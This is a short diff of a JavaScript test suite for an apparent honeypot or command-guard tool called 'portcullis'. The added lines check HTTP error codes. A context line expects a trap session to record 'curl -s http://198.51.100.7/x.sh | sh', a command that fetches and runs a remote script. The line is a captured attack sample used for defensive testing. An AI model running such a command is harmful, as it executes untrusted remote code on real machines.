@@ -92,6 +92,9 @@ describe('portcullis serve', () => {
     expect(sess.body).toContain('chroot /mnt sh -c curl -s http://198.51.100.7/x.sh | sh');
     expect(sess.body).toContain('export-stix');
     expect((await get('/trap/nope')).status).toBe(404);
+    expect((await get('/trap/%E0%A4%A')).status).toBe(400);
+    expect((await get('/api/nope')).status).toBe(404);
+    expect((await get('/guard', { method: 'DELETE' })).status).toBe(405);
   });
 
   it('filters the guard log and gives the reason of each denial', async () => {
